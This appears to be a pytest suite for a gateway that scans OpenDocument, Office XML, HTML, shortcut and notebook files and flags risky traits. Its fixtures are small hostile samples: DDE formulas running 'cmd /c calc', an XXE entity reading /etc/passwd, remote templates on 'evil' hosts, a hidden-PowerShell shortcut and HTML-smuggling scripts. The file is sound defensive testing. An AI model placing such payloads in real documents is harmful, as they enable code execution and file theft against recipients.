"""OpenDocument, XML of all kinds, pages that are programs, shortcuts, notebooks."""

from __future__ import annotations

import base64
import io
import struct
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.extract.documents.fields import dde_formula, field_facts, remote
from gateway.extract.formats import Fact, Locked, Member, Reader, markup, notebook, opendocument, shortcuts, xml_files
from gateway.extract.room import Full, Room
from gateway.reading import Link, Reason, Text, Trait, Zone
from gateway.traits import Mark


def found(reader: Reader, data: bytes) -> list[Fact]:
    return list(reader(data, "1", Room()))


def marks(facts: list[Fact]) -> set[str]:
    return {fact.word for fact in facts if isinstance(fact, Trait)}


def members(facts: list[Fact]) -> list[bytes | None]:
    return [fact.content for fact in facts if isinstance(fact, Member)]


def text_in(facts: list[Fact], zone: Zone) -> str:
    return "".join(fact.content for fact in facts if isinstance(fact, Text) and fact.zone is zone)


def odf(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


SPACES = 'xmlns:t="t" xmlns:o="o" xmlns:x="x" xmlns:d="d" xmlns:urn="urn:oasis:names:tc:opendocument"'


def content(inner: str) -> str:
    return f"<o:document-content {SPACES}>{inner}</o:document-content>"


PHRASE = "BÍ MẬT"
ODF_ZONES = {
    "a paragraph, cut": ("<t:p>BÍ<t:s/><t:span>MẬ</t:span>T</t:p>", Zone.ATTACHMENT),
    "a page's header": (f"<o:header><t:p>{PHRASE}</t:p></o:header>", Zone.PAGE_HEADER),
    "a page's footer": (f"<o:footer><t:p>{PHRASE}</t:p></o:footer>", Zone.PAGE_FOOTER),
    "a note": (f"<t:note><t:p>{PHRASE}</t:p></t:note>", Zone.NOTE),
    "a comment": (f"<o:annotation><t:p>{PHRASE}</t:p></o:annotation>", Zone.COMMENT),
    "a text box": (f"<d:text-box><t:p>{PHRASE}</t:p></d:text-box>", Zone.TEXT_BOX),
    "a title": (f"<o:meta><x:title>{PHRASE}</x:title></o:meta>", Zone.PROPERTY),
    "a sheet's name": (f"<t:table t:name='{PHRASE}'/>", Zone.PROPERTY),
}


@pytest.mark.parametrize(("inner", "zone"), ODF_ZONES.values(), ids=ODF_ZONES)
@pytest.mark.parametrize("flat", [False, True], ids=["in a package", "flat"])
def test_a_phrase_in_opendocument(inner: str, zone: Zone, flat: bool) -> None:
    if flat:
        facts = found(xml_files.read, f"<?xml version='1.0'?>{content(inner)}".encode())
    else:
        facts = found(opendocument.read, odf({"content.xml": content(inner)}))
    assert PHRASE in text_in(facts, zone)


ODF_MARKS: dict[str, tuple[dict[str, str | bytes], set[str]]] = {
    "nothing": ({"content.xml": content("<t:p>a</t:p>")}, set()),
    "a Basic module": ({"Basic/Standard/M.xml": "<script:module>Sub X\nShell\nEnd Sub</script:module>"}, {Mark.MACRO}),
    "an empty Basic module": (
        {"Basic/Standard/M.xml": "<script:module a='b'>REM  *****  BASIC  *****\n</script:module>"},
        set(),
    ),
    "a Python script": ({"Scripts/python/a.py": "import os"}, {Mark.MACRO}),
    "a script at an event": (
        {"content.xml": content("<o:event-listener o:event-name='dom:load' x:href='vnd.sun.star.script:a'/>")},
        {Mark.MACRO, Mark.AUTO_MACRO},
    ),
    "DDE": ({"content.xml": content("<o:dde-source o:dde-application='cmd' o:dde-topic='/c'/>")}, {Mark.DDE}),
    "DDE as a formula": ({"content.xml": content('<t:table-cell t:formula=\'of:=DDE("cmd";"/c";"x")\'/>')}, {Mark.DDE}),
    "an object": ({"Object 1": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}, {Mark.OLE_OBJECT}),
    "an object elsewhere": ({"content.xml": content("<d:object x:href='http://evil/a'/>")}, {Mark.EXTERNAL_LINK}),
    "a remote template": ({"meta.xml": content("<o:template x:href='http://evil/a.ott'/>")}, {Mark.REMOTE_TEMPLATE}),
}


@pytest.mark.parametrize(("parts", "expected"), ODF_MARKS.values(), ids=ODF_MARKS)
def test_marks_of_opendocument(parts: dict[str, str | bytes], expected: set[str]) -> None:
    assert marks(found(opendocument.read, odf(parts))) == expected


def test_an_encrypted_opendocument_file_is_told() -> None:
    manifest = "<m:manifest><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>"
    with pytest.raises(Locked):
        found(opendocument.read, odf({"content.xml": b"\x00\x01", "META-INF/manifest.xml": manifest}))


def test_a_book_is_its_pages() -> None:
    data = odf({"mimetype": "application/epub+zip", "OEBPS/1.xhtml": "<html/>", "OEBPS/a.css": "x"})
    assert members(found(opendocument.read_book, data)) == [b"<html/>"]


WORD_2003 = '<?xml version="1.0"?><w:wordDocument xmlns:w="w" {}>{}</w:wordDocument>'
XML: dict[str, tuple[str, set[str]]] = {
    "Word 2003": (WORD_2003.format("", "<w:t>a</w:t>"), set()),
    "Word 2003 with macros": (WORD_2003.format('w:macrosPresent="yes"', ""), {Mark.MACRO}),
    "Word 2003 with DDE": (WORD_2003.format("", "<w:fldSimple w:instr='DDE cmd x'/>"), {Mark.DDE}),
    "Excel 2003 with DDE": (
        "<?xml version='1.0'?><Workbook xmlns:s='s'><Cell s:Formula=\"=cmd|'/c calc'!A1\"/></Workbook>",
        {Mark.DDE},
    ),
    "flat OPC with a template": (
        "<?xml version='1.0'?><p:package xmlns:p='p'><Relationships><Relationship Type='a/attachedTemplate'"
        " Target='http://evil/' TargetMode='External'/></Relationships></p:package>",
        {Mark.REMOTE_TEMPLATE},
    ),
    "a shortcut to settings": (
        "<?xml version='1.0'?><PCSettings><DeepLink>cmd /c</DeepLink></PCSettings>",
        {Mark.SHORTCUT},
    ),
    "any other": ("<?xml version='1.0'?><a><b>x</b></a>", set()),
}


@pytest.mark.parametrize(("text", "expected"), XML.values(), ids=XML)
def test_marks_of_xml(text: str, expected: set[str]) -> None:
    assert marks(found(xml_files.read, text.encode())) == expected


def test_a_file_in_base64_in_xml_is_a_member() -> None:
    blob = base64.b64encode(b"ActiveMime!").decode()
    facts = found(
        xml_files.read, WORD_2003.format("", f"<w:binData w:name='x/editdata.mso'>{blob}</w:binData>").encode()
    )
    assert members(facts) == [b"ActiveMime!"]


def test_entities_are_refused() -> None:
    with pytest.raises(Full) as full:
        found(xml_files.read, b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>")
    assert full.value.reason is Reason.BOMB


ZIP = odf({"a.exe": b"MZ" + bytes(300)})
IN_64 = base64.b64encode(ZIP).decode()
PAGES: dict[str, tuple[str, set[str]]] = {
    "a page": ("<html><p>download = a word</p></html>", set()),
    "a page with a script": ("<script>alert(1)</script>", {Mark.SCRIPT}),
    "an event": ("<body onload=go()>", {Mark.SCRIPT}),
    "a script's address": ("<a href='javascript:x'>", {Mark.SCRIPT}),
    "a picture that runs": ("<svg xmlns='s'><svg:script>x</svg:script></svg>", {Mark.SCRIPT}),
    "a page within a picture": ("<svg><foreignObject><b/></foreignObject></svg>", {Mark.SCRIPT}),
    "a password": ("<form><input name=p type='password'></form>", {Mark.PASSWORD_FORM}),
    "a picture in the page": (f"<img src='data:image/png;base64,{base64.b64encode(b'PNG' * 99).decode()}'>", set()),
    "a file built and saved": (
        "<script>var b=new Blob([atob(x)]);a.href=URL.createObjectURL(b);a.download='a.zip'</script>",
        {Mark.SCRIPT, Mark.HTML_SMUGGLING},
    ),
    "a file in base64": (f"<script>x=atob('{IN_64}')</script>", {Mark.SCRIPT, Mark.HTML_SMUGGLING}),
    "a file in pieces": (
        f"<script>x=atob('{IN_64[:90]}' + '{IN_64[90:]}')</script>",
        {Mark.SCRIPT, Mark.HTML_SMUGGLING},
    ),
    "a file in numbers": (
        f"<script>x=new Uint8Array([{','.join(map(str, ZIP))}])</script>",
        {Mark.SCRIPT, Mark.HTML_SMUGGLING},
    ),
    "a file as a link": (
        f"<a download='a.zip' href='data:application/zip;base64,{IN_64}'>x</a>",
        {Mark.HTML_SMUGGLING},
    ),
}


@pytest.mark.parametrize(("text", "expected"), PAGES.values(), ids=PAGES)
def test_marks_of_pages(text: str, expected: set[str]) -> None:
    assert marks(found(markup.read, text.encode())) == expected


@pytest.mark.parametrize("name", ["a file in base64", "a file in pieces", "a file in numbers", "a file as a link"])
def test_the_file_that_a_page_builds_is_a_member(name: str) -> None:
    assert ZIP in members(found(markup.read, PAGES[name][0].encode()))


def lnk(**said: str) -> bytes:
    flags = 0x80 | sum({"path": 8, "arguments": 0x20}[name] for name in said)
    head = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + struct.pack("<I", flags)
    strings = b"".join(struct.pack("<H", len(text)) + text.encode("utf-16-le") for text in said.values())
    return head.ljust(0x4C, b"\0") + strings + bytes(4)


def test_a_shortcut_tells_what_it_runs() -> None:
    facts = found(shortcuts.read_lnk, lnk(path="..\\cmd.exe", arguments="/c powershell -w hidden"))
    assert [fact.detail for fact in facts if isinstance(fact, Trait)] == ["..\\cmd.exe /c powershell -w hidden"]


def test_what_is_appended_to_a_shortcut_is_a_member() -> None:
    facts = found(shortcuts.read_lnk, lnk(path="a") + b"MZ" * 100)
    assert marks(facts) == {Mark.SHORTCUT, Mark.APPENDED}
    assert members(facts) == [b"MZ" * 100]


LINES: dict[str, tuple[str, set[str]]] = {
    "a letter": ("Kính gửi | anh! = chị", set()),
    "a shortcut of the web": ("[InternetShortcut]\r\nURL=file://evil/a.exe\r\n", {Mark.SHORTCUT}),
    "an icon on a share": ("[Shell]\nIconFile=\\\\evil\\a.ico\n", {Mark.EXTERNAL_LINK}),
    "an icon of one's own": ("[InternetShortcut]\nIconFile=C:\\a.ico\n", set()),
    "a desktop entry": ("[Desktop Entry]\nExec=sh -c x\n", {Mark.SHORTCUT}),
    "a remote desktop": ("screen mode id:i:2\nfull address:s:evil.example\n", {Mark.SHORTCUT}),
    "a web query": ("WEB\r\n1\r\nhttp://evil/x\r\n", {Mark.EXTERNAL_LINK}),
    "DDE in csv": ("a,b\n1,=cmd|'/c calc'!A1\n", {Mark.DDE}),
    "DDE in csv, quoted": ("a,b\n1,\"=cmd|'/c calc'!A1\"\n", {Mark.DDE}),
    "DDE in csv behind a sum": ("@SUM(1+9)*cmd|' /C calc'!A0\n", {Mark.DDE}),
    "DDE in tsv": ("x\t-2+3+cmd|' /C calc'!D2\n", {Mark.DDE}),
    "a table with bars": ("a | b | c!\n-1 | 2 | 3\n", set()),
    "SYLK with macros": (
        'ID;PWXL;N;E\nO;L;E;D\nNN;NAuto_Open;ER1C1\nC;Y1;X1;K0;EEXEC("calc")\n',
        {Mark.XLM_MACRO, Mark.AUTO_MACRO},
    ),
}


@pytest.mark.parametrize(("text", "expected"), LINES.values(), ids=LINES)
def test_marks_of_lines(text: str, expected: set[str]) -> None:
    assert marks(found(shortcuts.read_lines, text.encode())) == expected


FILE = b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac"


def test_files_of_a_notebook_are_members_with_the_names_that_are_there() -> None:
    script = b"@echo off\r\nstart calc"
    data = (
        b"\xe4\x52\x5c\x7b" + "Nhấp đúp để xem".encode("utf-16-le") + b"\0\0" + "mo.cmd".encode("utf-16-le") + b"\0\0"
    )
    data += FILE + struct.pack("<QIQ", len(script), 0, 0) + script
    facts = found(notebook.read, data)
    assert [(fact.names, fact.content) for fact in facts if isinstance(fact, Member)] == [(("mo.cmd",), script)]
    assert "Nhấp đúp để xem" in text_in(facts, Zone.ATTACHMENT)
    assert marks(facts) == {Mark.EMBEDDED_FILE}


REMOTE = {
    "http://a/": True,
    "\\\\host\\share": True,
    "//host/share": True,
    "file://host/a": True,
    "file:///\\\\host\\a": True,
    "file:////host/a": True,
    "file:///C:/a": False,
    "C:\\a": False,
    "a.dotm": False,
    "\\\\?\\C:\\a": False,
    "mhtml:http://a": True,
    "": False,
}


@pytest.mark.parametrize(("target", "expected"), REMOTE.items(), ids=[repr(target) for target in REMOTE])
def test_what_is_remote(target: str, expected: bool) -> None:
    assert remote(target) is expected


def test_a_field_that_links() -> None:
    assert [fact.target for fact in field_facts('HYPERLINK \\l "x"', "1") if isinstance(fact, Link)] == ["x"]


READERS: tuple[Reader, ...] = (
    opendocument.read,
    xml_files.read,
    markup.read,
    shortcuts.read_lnk,
    shortcuts.read_lines,
    notebook.read,
)


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(READERS), st.binary(max_size=200))
def test_any_bytes_end_in_facts_or_an_exception_of_the_file(reader: Reader, data: bytes) -> None:
    for prefix in (b"", b"<?xml version='1.0'?><a>", b"[InternetShortcut]\n", FILE, lnk(path="a")):
        try:
            found(reader, prefix + data)
        except Exception as problem:
            if isinstance(problem, (RecursionError, MemoryError, AttributeError, TypeError)):
                raise


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet="=+-@|!'ab, \n\"", max_size=200))
def test_any_table_is_searched(text: str) -> None:
    assert isinstance(dde_formula(text), str)
